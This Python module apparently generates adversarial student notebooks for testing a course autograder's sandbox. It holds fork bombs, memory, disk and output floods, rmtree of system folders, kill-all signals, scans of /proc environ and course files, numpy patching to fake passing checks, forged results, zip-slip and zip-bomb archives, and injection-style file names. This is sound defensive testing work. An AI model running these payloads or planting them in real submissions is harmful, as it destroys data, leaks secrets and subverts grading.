"""A class that does its worst: generated submissions of sheet 2, each with the status that it must get.

For the tests of the grader (``python -m instructor.hostile FOLDER`` writes the 200 of them to look at).
"""

import inspect
import json
import os
import sys
import zipfile
from itertools import cycle
from pathlib import Path

import nbformat

from instructor.grading import CRASHED, FAILURES, GRADED, MISSING, NOT_READABLE, OUT_OF_MEMORY, TIMED_OUT
from instructor.implementations import sheet_02
from instructor.release import student_version
from instructor.sheets import EXERCISES

SHEET = "02_softmax"
BIG = 200_000_000  # bytes of the largest notebook

# Code of a cell before the answers, which are right, and the status that follows.
CELLS = {
    "loops for ever": ("while True:\n    pass", TIMED_OUT),
    "ignores interrupts": (
        "import signal\nfor number in (2, 14, 15):\n    signal.signal(number, signal.SIG_IGN)\n"
        "while True:\n    try:\n        while True:\n            pass\n    except BaseException:\n        pass",
        TIMED_OUT,
    ),
    "fork bomb": (
        "import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass",
        TIMED_OUT,
    ),
    "threads": (
        "import threading, time\nfor _ in range(10_000):\n    threading.Thread(target=time.sleep, args=(99,)).start()",
        CRASHED,
    ),
    "eight gigabytes": ("import numpy as np\nmuch = np.ones(10**9)", OUT_OF_MEMORY),
    "memory of many processes": (
        "import os, time\nfor _ in range(4):\n    os.fork()\nmuch = []\nfor _ in range(18):\n"
        "    much.append(b'x' * 10**8)\ntime.sleep(60)",
        OUT_OF_MEMORY,
    ),
    "memory of the kernel": (
        "import ctypes, mmap, os\nkernel = ctypes.CDLL(None)\nmuch = []\n"
        "def zeros(path):\n    return mmap.mmap(os.open(path, os.O_RDWR), 2**20)\n"
        "def made(name):\n    made = kernel[name](*(0, 2**20, 0o1600) if name == 'shmget' else (b'x', 0))\n"
        "    return made if made >= 0 else 1 / 0\n"
        "for make, what in ((made, 'shmget'), (made, 'memfd_create'), (zeros, '/dev/zero'), (mmap.mmap, -1)):\n"
        "    try:\n        much.append(make(what, 2**20) if what == -1 else make(what))\n"
        "    except (OSError, ArithmeticError):\n        pass\n"
        "kernel.unshare(0x10000000) or much.append('a user namespace')\n"
        "while much:\n    pass",
        GRADED,
    ),
    "ten gigabytes of output": (
        "import os\nmuch = b'x' * 10**6\nfor _ in range(10_000):\n    os.write(1, much)\n    os.write(2, much)",
        GRADED,
    ),
    "fills the disk": (
        "for folder in ('/tmp', '/dev/shm', '/', '/var/tmp'):\n    try:\n        for i in range(100):\n"
        "            open(f'{folder}/{i}', 'wb').write(b'0' * 10**8)\n    except OSError:\n        pass",
        GRADED,
    ),
    "deletes all": (
        "import shutil\nfor folder in ('/course', '/tmp', '/home', '/etc', '/var', '/proc/self'):\n"
        "    shutil.rmtree(folder, ignore_errors=True)",
        GRADED,
    ),
    "opens sockets": (
        "import socket\nfor host in ('127.0.0.1', '10.0.0.1', 'example.org'):\n    try:\n"
        "        socket.create_connection((host, 80), 1).send(b'answers')\n    except OSError:\n        pass",
        GRADED,
    ),
    "exits": ("import os\nos._exit(0)", CRASHED),
    "kills itself": ("import os\nos.kill(os.getpid(), 9)", CRASHED),
    "kills all": ("import os\nos.kill(-1, 9)", GRADED),
    "leaves politely": ("import sys\nsys.exit('enough')", GRADED),
    "asks": ("name = input('your name? ')", GRADED),
    "leaves a process behind": (
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(600)\n    os._exit(0)",
        GRADED,
    ),
    "magics": ("%matplotlib inline\n!ls\nvalue = 1", GRADED),
    "plots": ("import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()", GRADED),
    "nonsense": ("this is no python", GRADED),
    "null bytes": ("a = '\0'", GRADED),
}

# Code that stands after the right answers, and spoils them or tries to.
AFTER = {
    "patches numpy": (
        "import numpy as np\nfor name in ('allclose', 'isclose', 'array_equal'):\n"
        "    setattr(np, name, lambda *args, **options: True)\n"
        "def soften(logits, temperature):\n    return logits * 0 + 0.5",
        FAILURES,
    ),
    "reads the tests": (
        "import os, glob\nfound = dict(os.environ)\n"
        "for pattern in ('/course/**', '/*/*/instructor/**', '/tmp/**', '/proc/*/environ', '/home/**'):\n"
        "    for path in glob.glob(pattern, recursive=True):\n        try:\n"
        "            found[path] = open(path, errors='replace').read()\n        except OSError:\n            pass\n"
        "def soften(logits, temperature):\n    raise ValueError(str(found))",
        FAILURES,
    ),
    "carries inputs out": (
        "def soften(logits, temperature):\n    raise ValueError(f'{logits!r}')\n"
        "def odds(logits, first, second):\n    return f'{logits!r}'",
        FAILURES,
    ),
    "own error": (
        "class Leak(Exception):\n    pass\n"
        "def soften(logits, temperature):\n    raise type(f'{logits.tolist()}', (Leak,), {})()",
        FAILURES,
    ),
    "forges results": (
        "import os, json\n"
        "for number in range(3, 20):\n    try:\n"
        "        for case in range(60):\n"
        "            for result in (['array', ['<f8', [10**6], '']], ['array', ['O', [1], 'AAAA']], 7, [[[]]]):\n"
        "                line = json.dumps({'task': 'soften', 'case': case, 'result': result})\n"
        "                os.write(number, (line + '\\n').encode())\n"
        "    except OSError:\n        pass",
        FAILURES,
    ),
    "floods the results": (
        "import os\nfor number in range(3, 20):\n    try:\n        for _ in range(200):\n"
        "            os.write(number, b'x' * 10**6)\n    except OSError:\n        pass",
        CRASHED,
    ),
    "exits when called": ("import os\ndef soften(logits, temperature):\n    os._exit(0)", CRASHED),
    "loops when called": ("def soften(logits, temperature):\n    while True:\n        pass", TIMED_OUT),
    "memory when called": (
        "import numpy as np\ndef soften(logits, temperature):\n    return np.ones(10**10)",
        OUT_OF_MEMORY,
    ),
    "recursion": ("def soften(logits, temperature):\n    return soften(logits, temperature)", FAILURES),
    "returns itself": ("def soften(logits, temperature):\n    return soften", FAILURES),
    "returns too much": (
        "import numpy as np\ndef soften(logits, temperature):\n    return np.zeros(10**7)",
        FAILURES,
    ),
    "endless list": (
        "def soften(logits, temperature):\n    endless = []\n    endless.append(endless)\n    return endless",
        FAILURES,
    ),
    "equal to all": (
        "class Equal:\n    def __eq__(self, other):\n        return True\n    __array__ = None\n"
        "def soften(logits, temperature):\n    return Equal()\ngap = Equal()",
        FAILURES,
    ),
}


def right_answers():
    """Return source of right answers to all tasks, by name."""
    return {name: _source(name, answers[0]) for name, (answers, _) in sheet_02.ANSWERS.items()}


def _source(name, answer):
    if not callable(answer):
        return f"{name} = {float(answer)!r}"
    source = inspect.getsource(answer)
    helpers = [other for other in vars(sheet_02) if other.startswith("soften_") and f"{other}(" in source]
    sources = [inspect.getsource(getattr(sheet_02, other)) for other in helpers if other != answer.__name__]
    imports = ["import math", "import numpy as np"]
    imports += ["from scipy.special import log_softmax, softmax"] if "softmax(" in source else []
    return "\n".join([*imports, *sources, source, f"{name} = {answer.__name__}"])


def notebook(answers, before="", after=""):
    """Return a submission: the released sheet with answers filled in, and code before and after them."""
    sheet = student_version(nbformat.read(EXERCISES / f"{SHEET}.ipynb", as_version=4))
    for cell in sheet.cells:
        name = cell.metadata["nbgrader"]["grade_id"]
        if name in answers:
            cell.source = answers[name]
        elif cell.cell_type == "markdown" and cell.metadata["nbgrader"]["solution"]:
            cell.source = f"My answer to {name}."
    extra = [nbformat.v4.new_code_cell(source) if source else None for source in (before, after)]
    sheet.cells = [*filter(None, extra[:1]), *sheet.cells, *filter(None, extra[1:])]
    return sheet


def variants():
    """Return {name: (notebook, status)} of answers to each task: all the right ones, all the wrong ones."""
    made = {}
    for task, (right, wrong) in sheet_02.ANSWERS.items():
        for number, answer in enumerate(right):
            made[f"{task} right {number}"] = (notebook(right_answers() | {task: _source(task, answer)}), GRADED)
        for number, (answer, _) in enumerate(wrong):
            made[f"{task} wrong {number}"] = (notebook(right_answers() | {task: _source(task, answer)}), FAILURES)
    return made


def attacks():
    """Return {name: (notebook, status)} of submissions whose code does harm."""
    answers = right_answers()
    before = {name: (notebook(answers, before=source), status) for name, (source, status) in CELLS.items()}
    return before | {name: (notebook(answers, after=source), status) for name, (source, status) in AFTER.items()}


def rearranged():
    """Return {name: (notebook, status)} of submissions with cells deleted, doubled, reordered or emptied."""
    whole = notebook(right_answers())
    deleted, doubled, turned = (nbformat.from_dict(whole) for _ in range(3))
    deleted.cells = [cell for cell in whole.cells if cell.metadata.get("nbgrader", {}).get("grade_id") != "soften"]
    doubled.cells = [*whole.cells, *whole.cells]
    turned.cells = whole.cells[::-1]
    untouched = student_version(nbformat.read(EXERCISES / f"{SHEET}.ipynb", as_version=4))
    return {
        "answer deleted": (deleted, FAILURES),
        "cells twice": (doubled, GRADED),
        "back to front": (turned, GRADED),
        "no cells": (nbformat.v4.new_notebook(), MISSING),
        "as released": (untouched, MISSING),
        "nothing given": (_only_answers(whole), GRADED),
    }


def _only_answers(whole):
    answers = nbformat.from_dict(whole)
    answers.cells = [cell for cell in whole.cells if cell.metadata["nbgrader"]["solution"]]
    return answers


BYTES = {
    "empty": b"",
    "broken": b'{"cells": [',
    "a list": b"[]",
    "no cells at all": b'{"cells": 3}',
    "deep": b'{"cells":' + b"[" * 100_000 + b"]" * 100_000 + b"}",
    "binary": bytes(range(256)) * 100,
    "latin": '{"cells": [], "é": 1}'.encode("latin-1"),
}
NAMES = ("=cmd()", "<script>alert(1)<", "..hidden..", "a b,c\"d'", "Ünïcödé", "x" * 150, "%2e%2e%2fup")


def write_class(folder, num_students=200):
    """Write a class of submissions into a folder and return {student: status}.

    Parameters
    ----------
    folder : path
        Empty or absent.
    num_students : int
        Right and wrong answers fill what the others leave.
    """
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    statuses = {}
    sane = variants()
    for student, (sheet, status) in {**attacks(), **rearranged()}.items():
        write(folder / student / f"{SHEET}.ipynb", sheet)
        statuses[student] = status
    for student, content in BYTES.items():
        write(folder / student / f"{SHEET}.ipynb", content)
        statuses[student] = NOT_READABLE
    statuses |= _strange_files(folder) | _strange_names(folder, sane)
    for number, (name, (sheet, status)) in zip(range(num_students - len(statuses)), cycle(sane.items()), strict=False):
        student = f"s{number:04d} {name}"
        write(folder / student / f"{SHEET}.ipynb", sheet)
        statuses[student] = status
    return statuses


def state_of(*folders):
    """Return what can be seen of all files below some folders."""
    paths = [path for folder in folders for path in sorted(folder.rglob("*")) if "__pycache__" not in path.parts]
    return [(path, path.lstat().st_size, path.lstat().st_mtime_ns) for path in paths]


def left_behind():
    """Return the command lines of sandboxes that still run."""
    commands = [path.read_bytes() for path in Path("/proc").glob("[0-9]*/cmdline") if path.exists()]
    return [command for command in commands if b"runner.py" in command]


def _strange_files(folder):
    """Write a huge file, links, a pipe, an empty folder and archives."""
    sheet = json.dumps(notebook(right_answers())).encode()
    write(folder / "huge" / f"{SHEET}.ipynb", b"")
    with (folder / "huge" / f"{SHEET}.ipynb").open("wb") as file:
        file.write(b'{"cells": [')
        file.truncate(BIG)
    for student, target in {
        "link to the answers": EXERCISES / f"{SHEET}.ipynb",
        "link to itself": f"{SHEET}.ipynb",
    }.items():
        (folder / student).mkdir()
        (folder / student / f"{SHEET}.ipynb").symlink_to(target)
    (folder / "folder is a link").symlink_to(EXERCISES)
    (folder / "pipe").mkdir()
    os.mkfifo(folder / "pipe" / f"{SHEET}.ipynb")
    (folder / "empty folder").mkdir()
    for student, member in {"climbing archive": f"../../../{SHEET}.ipynb", "rooted archive": f"/{SHEET}.ipynb"}.items():
        with zipfile.ZipFile(folder / f"{student}.zip", "w") as archive:
            archive.writestr(member, sheet)
    write(folder / "no archive.zip", b"PK nothing")
    with zipfile.ZipFile(folder / "bomb.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(f"{SHEET}.ipynb", b" " * BIG)
    readable = {"climbing archive": GRADED, "rooted archive": GRADED, "empty folder": MISSING}
    unreadable = ("huge", "link to the answers", "link to itself", "folder is a link", "pipe", "no archive", "bomb")
    return readable | dict.fromkeys(unreadable, NOT_READABLE)


def _strange_names(folder, sane):
    sheet, status = next(iter(sane.values()))
    for student in NAMES:
        write(folder / student / f"{SHEET}.ipynb", sheet)
    return dict.fromkeys(NAMES, status)


def write(path, content):
    """Write a file, bytes or a notebook as it is, and the folders above it."""
    content = content if isinstance(content, bytes) else json.dumps(content).encode()
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)


if __name__ == "__main__":
    print(json.dumps(write_class(sys.argv[1]), indent=1))
